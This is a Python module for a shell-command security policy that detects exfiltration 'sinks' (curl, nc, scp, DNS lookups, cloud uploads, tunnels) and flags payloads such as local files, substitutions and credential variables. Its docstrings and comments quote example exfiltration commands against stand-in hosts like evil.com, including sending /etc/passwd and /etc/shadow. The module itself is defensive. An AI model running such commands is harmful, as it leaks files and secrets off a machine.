"""Sinks: programs that send data off the machine, and what feeds them.

A network program (HTTP clients, raw sockets, ssh/scp/rsync to another host, mail, DNS
lookups) is a leak when it carries a payload: a local file (`curl -d @f`, `-T f`,
`-F x=@f`, `nc host < f`, `scp f host:`), the output of a substitution (`curl
"evil/$(id)"`, `dig $(hostname).evil.com`, a header `-H "X: $(cat f)"`) or a pipe
(`tar c / | nc host 1`, `cat f | ssh host 'cat > x'`). Such a command is blocked unless
every destination is this machine (loopback) and no payload is credential material.
A request that sends nothing (`curl -s https://example.com`) is not a sink finding.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass

from shturman.policy.secrets import classify_path
from shturman.policy.shell import Redirect, Word

_HTTP = frozenset(["curl", "wget", "http", "https", "httpie", "xh", "aria2c", "lynx", "fetch"])
_SOCKETS = frozenset(["nc", "ncat", "netcat", "socat", "telnet", "openssl", "s_client", "pwncat"])
_REMOTE_COPY = frozenset(["scp", "rsync", "sftp"])
_COPY_VALUE_OPTS = frozenset(["-e", "--rsh", "-i", "-P", "-o", "-F", "-c", "-l", "-S", "-J",
                              "--port", "--exclude", "--include", "--filter", "-f", "-b", "-B",
                              "--exclude-from", "--include-from", "--files-from", "--rsync-path",
                              "--chown", "--chmod", "--password-file", "-T", "--temp-dir"])
_MAIL = frozenset(["mail", "mailx", "sendmail", "mutt", "msmtp", "ssmtp", "s-nail"])
_DNS = frozenset(
    [
        "dig",
        "nslookup",
        "host",
        "drill",
        "delv",
        "ping",
        "ping6",
        "traceroute",
        "tracepath",
        "mtr",
        "whois",
        "curlie",
        "getent",  # `getent hosts NAME` asks the resolver: a name is a DNS query
        "resolvectl",  # `resolvectl query NAME`
        "systemd-resolve",
        "kdig",
        "doggo",
        "dog",
        "ping4",
        "traceroute6",
        "tcptraceroute",
        "arping",
        "fping",
        "hping3",
        "nping",
    ]
)
_GETENT_DNS = frozenset(["hosts", "ahosts", "ahostsv4", "ahostsv6"])
_CLOUD_COPY = frozenset(["aws", "gsutil", "rclone", "az", "s3cmd", "mc", "azcopy"])
_TUNNELS = frozenset(["ngrok", "cloudflared", "localtunnel", "lt", "bore", "frpc", "chisel"])
# file-transfer clients whose command string (`-c 'put f'`, `-e 'put f'`) uploads local files
_TRANSFER = frozenset(["tftp", "ftp", "lftp", "smbclient", "ncftpput"])
_SYSLOG_REMOTE = ("-n", "--server")  # `logger -n HOST MESSAGE`: the message leaves the host
_UPLOAD_VERB = re.compile(r"(?:^|[;\s])m?put\s+(?:-\S+\s+)*([^\s;]+)")
_NCFTP_VALUES = frozenset(["-u", "-p", "-P", "-j", "-t", "-f", "-U", "-X", "-Y", "-S", "-T"])
NETWORK = (
    _HTTP
    | _TRANSFER
    | frozenset(["logger"])
    | _SOCKETS
    | _REMOTE_COPY
    | _MAIL
    | _DNS
    | _CLOUD_COPY
    | _TUNNELS
    | frozenset(["ssh", "git"])
)
_CLOUD_URL = re.compile(r"^(?:s3|gs|az|azure|wasbs?|abfss?)://|^[\w-]+:(?!//)\S*$")
_GIT_NET = frozenset(["ls-remote", "clone", "fetch", "push", "pull", "archive", "remote"])
_PAYLOAD_OPTS = ("-T", "--upload-file", "--post-file", "--body-file")
_ATTACH_OPTS = ("-a", "-A", "--attach")  # mail programs
_QUIET_INPUT = frozenset(["/dev/null", "/dev/zero", "-"])
_RESOLVERS = frozenset(["dig", "kdig", "drill", "delv", "khost", "host", "nslookup"])
_DATA_OPTS = (
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-ascii",
    "--data-urlencode",
    "--json",
    "-F",
    "--form",
    "--form-string",
    "--post-data",
    "--body-data",
)
_SUBSTITUTION = re.compile(r"\$\(|`|<\(")
_VAR_REF = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
_SECRET_VAR = re.compile(
    r"\$\{?[A-Za-z_]*(?:PASS|SECRET|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE|CREDENTIAL|AUTH)"
    r"[A-Za-z0-9_]*",
    re.I,
)
_LOCAL = re.compile(
    r"^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/]*@)?(localhost|127\.\d+\.\d+\.\d+|\[::1\]|::1)"
    r"(?:[:/?#].*)?$",
    re.I,
)
_HOSTISH = re.compile(
    r"^(?:[a-z][a-z0-9+.-]*://\S+|[\w.-]+@[\w.-]+.*|[\w.-]+\.[a-z]{2,}\S*|"
    r"\d+\.\d+\.\d+\.\d+\S*|localhost\S*|\[?::1\]?\S*)$",
    re.I,
)


@dataclass(frozen=True, slots=True)
class Leak:
    payload: str  # what is sent: a file, "substitution", "pipe"
    sensitive: bool  # the payload is credential material


def _value(args: Sequence[Word], opts: Sequence[str]) -> list[str]:
    found: list[str] = []
    for i, w in enumerate(args):
        v = w.value
        for o in opts:
            if v == o and i + 1 < len(args):
                found.append(args[i + 1].value)
            elif o.startswith("--") and v.startswith(o + "="):
                found.append(v[len(o) + 1 :])
            elif len(o) == 2 and v.startswith(o) and len(v) > 2 and not v.startswith("--"):
                found.append(v[2:])
    return found


def _files_sent(name: str, args: Sequence[Word]) -> list[str]:
    files = list(_value(args, _ATTACH_OPTS if name in _MAIL else _PAYLOAD_OPTS))
    # a resolver's `@ADDR` names the server (`kdig -d @127.0.0.1 NAME`: -d is its debug)
    for d in () if name in _RESOLVERS else _value(args, _DATA_OPTS):
        if d.startswith("@"):
            files.append(d[1:])
        elif "=@" in d or "=<" in d:
            files.append(d.split("=", 1)[1][1:].split(";", 1)[0])
    if name in _REMOTE_COPY:
        # the values of options that take one are no files (`rsync -e 'ssh -p 2222'`)
        pos = [w.value for i, w in enumerate(args) if not w.value.startswith("-")
               and not (i and args[i - 1].value in _COPY_VALUE_OPTS)]
        if len(pos) >= 2 and _remote_target(pos[-1]):
            files.extend(p for p in pos[:-1] if not _remote_target(p))
    if name in _TRANSFER:  # `tftp HOST -c put /etc/passwd`, `smbclient … -c 'put f r'`
        words = [w.value for w in args]
        files.extend(m.group(1) for m in _UPLOAD_VERB.finditer(" ".join(words)))
        if name == "ncftpput":  # `ncftpput [opts] HOST REMOTE-DIR LOCAL-FILE…`
            pos = [v for i, v in enumerate(words) if not v.startswith("-")
                   and not (i and words[i - 1] in _NCFTP_VALUES)]
            files.extend(pos[2:])
    if name == "socat":
        files.extend(
            w.value.split(":", 1)[1].split(",", 1)[0]
            for w in args
            if w.value.upper().startswith(("FILE:", "OPEN:", "GOPEN:"))
        )
    return [f for f in files if f and f not in _QUIET_INPUT]


def _carries_data(raw: str, carried: frozenset[str]) -> bool:
    """A loop variable holding a substitution's output, set into a name or URL with literal
    text around it (`$l.d.evil.example`, `http://x/?d=$l`): the data travels in the name.
    The variable alone (`ping $h` over a host list) is a destination, not a payload."""
    refs = [m for m in _VAR_REF.finditer(raw) if m.group(1) in carried]
    if not refs:
        return False
    bare = raw.strip("\"'")
    return not any(bare in (f"${m.group(1)}", f"${{{m.group(1)}}}") for m in refs)


def values(args: Sequence[Word]) -> list[str]:
    return [w.value for w in args]


def _cloud_upload(name: str, args: Sequence[Word]) -> list[Leak]:
    """`aws s3 cp LOCAL s3://…`, `gsutil cp LOCAL gs://…`, `rclone copy LOCAL remote:…`."""
    pos = [w.value for w in args if not w.value.startswith("-")]
    if name == "aws":
        if pos[:1] != ["s3"] or len(pos) < 4 or pos[1] not in ("cp", "sync", "mv"):
            return []
        pos = pos[2:]
    elif name in ("gsutil", "rclone", "s3cmd", "mc", "azcopy", "az"):
        verbs = ("cp", "copy", "sync", "mv", "move", "rsync", "put", "copyto", "moveto")
        start = next((i for i, p in enumerate(pos) if p in verbs), None)
        if start is None:
            return []
        pos = pos[start + 1 :]
    # the destination is the last bucket URL: words after it are option values (`--acl
    # public-read`), not more files
    last = max((i for i, p in enumerate(pos) if _CLOUD_URL.match(p)), default=-1)
    if last < 1:
        return []
    local = [p for p in pos[:last] if not _CLOUD_URL.match(p)]
    return [Leak(p, classify_path(p) is not None) for p in local]


def _remote_target(value: str) -> bool:
    """`host:path`, `user@host:path`, `host::module`, `rsync://…` (not `C:` or `./a:b`)."""
    if value.startswith("rsync://"):
        return True
    head = value.split(":", 1)[0]
    return ":" in value and bool(head) and "/" not in head and len(head) > 1


def _reads_stdin(name: str, args: Sequence[Word]) -> bool:
    if name in _SOCKETS or name in _MAIL or name in ("ssh", "logger"):
        return True
    if name == "sftp":  # a batch file `-b -` read from stdin holds `put` commands
        return any(w.value == "-b" for w in args)
    values = [w.value for w in args]
    if name in _HTTP:
        return any(v in ("@-", "-") or v.endswith(("=@-", "@-")) for v in values) or (
            "-T" in values and "." in values
        )
    return False


def destinations(name: str, args: Sequence[Word]) -> list[str]:
    """Where the program connects to (URLs, hosts, `host:` targets) as far as it is known."""
    pos = [w.value for w in args if not w.value.startswith("-")]
    if name == "sftp" and pos:
        return pos[-1:]
    if name in _REMOTE_COPY:
        return [p.split(":", 1)[0] for p in pos if _remote_target(p)]
    if name in ("ssh", "nc", "ncat", "netcat", "telnet") and pos:
        return pos[:1]
    if name == "socat":
        return [
            a.split(":", 2)[1]
            for a in pos
            if a.upper().startswith(("TCP", "UDP", "SSL", "OPENSSL")) and a.count(":") >= 1
        ]
    shares = [p[2:].split("/", 1)[0] for p in pos if p.startswith("//")]  # //HOST/share
    return shares + [p for p in pos if _HOSTISH.match(p)]


def leaks(
    name: str,
    args: Sequence[Word],
    redirects: Sequence[Redirect],
    piped: bool,
    carried: frozenset[str] = frozenset(),
    stdin_text: str | None = None,
) -> list[Leak]:
    """The payloads a network program would send, or [] when it is no sink. `stdin_text`: a
    here-document or here-string it reads (`sftp -b - host <<< 'put /etc/shadow'`)."""
    if name not in NETWORK or (name == "openssl" and not any(w.value == "s_client" for w in args)):
        return []
    if name == "git":
        sub = next((w.value for w in args if not w.value.startswith("-")), "")
        if sub not in _GIT_NET:
            return []
    if name == "getent":
        database = next((w.value for w in args if not w.value.startswith("-")), "")
        if database not in _GETENT_DNS:
            return []
    if name == "logger" and not any(w.value.split("=", 1)[0] in _SYSLOG_REMOTE for w in args):
        return []  # to the local journal
    found: list[Leak] = []
    if name in _TUNNELS:  # publishes a local port or directory to the internet
        return [Leak("tunnel", True)] if name != "cloudflared" or "tunnel" in values(args) else []
    if name in _CLOUD_COPY:
        upload = _cloud_upload(name, args)
        if piped and any(w.value == "-" for w in args) and any(
            _CLOUD_URL.match(w.value) for w in args
        ):  # `pg_dump app | aws s3 cp - s3://bucket/x`: stdin goes up
            upload.append(Leak("pipe", False))
        return upload
    if name == "git" and "push" in values(args):
        urls = [v for v in values(args) if "://" in v or _remote_target(v)]
        return [Leak(f"push to {urls[0]}", False)] if urls else []
    for f in _files_sent(name, args):
        found.append(Leak(f, classify_path(f) is not None))
    if stdin_text and (name in _TRANSFER or name == "sftp"):  # its commands come on stdin
        for m in _UPLOAD_VERB.finditer(stdin_text):
            found.append(Leak(m.group(1), classify_path(m.group(1)) is not None))
    for i, w in enumerate(args):  # `-d @"$f"`: the file sent is only known at run time
        opt = w.value.split("=", 1)[0]
        nxt = args[i + 1] if i + 1 < len(args) else None
        if opt in _DATA_OPTS + _PAYLOAD_OPTS and nxt is not None and not nxt.literal:
            found.append(Leak("a file named at run time", False))
            break
    for w in args:
        if not w.literal and _SUBSTITUTION.search(w.raw):
            found.append(Leak("substitution", False))
            break
        if not w.literal and _SECRET_VAR.search(w.raw):
            found.append(Leak("credential variable", True))
            break
        if not w.literal and _carries_data(w.raw, carried):
            found.append(Leak("substitution", False))  # `for l in $(…); do dig $l.x; done`
            break
    if _reads_stdin(name, args):
        for r in redirects:
            if r.op in ("<", "<>") and r.target is not None and r.target.value not in _QUIET_INPUT:
                found.append(Leak(r.target.value, classify_path(r.target.value) is not None))
        if piped:
            found.append(Leak("pipe", False))
    return found


def to_loopback(name: str, args: Sequence[Word]) -> bool:
    dests = destinations(name, args)
    return bool(dests) and all(_LOCAL.match(d) for d in dests)


_CODE_NET = re.compile(
    r"urlopen|urllib|requests\.(?:post|put|get|request)|http\.client|httpx\.|socket\.|"
    r"\bfetch\(|https?\.request|Net::HTTP|LWP::|IO::Socket|curl_exec|fsockopen|"
    r"file_get_contents\(\s*['\"]https?:|TCPSocket|smtplib|ftplib"
)
_CODE_LOCAL = re.compile(
    r"\bopen\(|read_text|read_bytes|readFile|File\.read|file_get_contents\(\s*['\"]/|"
    r"environ|process\.env|\bENV\b|subprocess|check_output|popen|os\.system|`"
)


def code_leaks(code: str) -> bool:
    """Interpreter code that reads local data (files, environment, command output) and
    talks to the network: the data may be what it sends."""
    return bool(_CODE_NET.search(code) and _CODE_LOCAL.search(code))
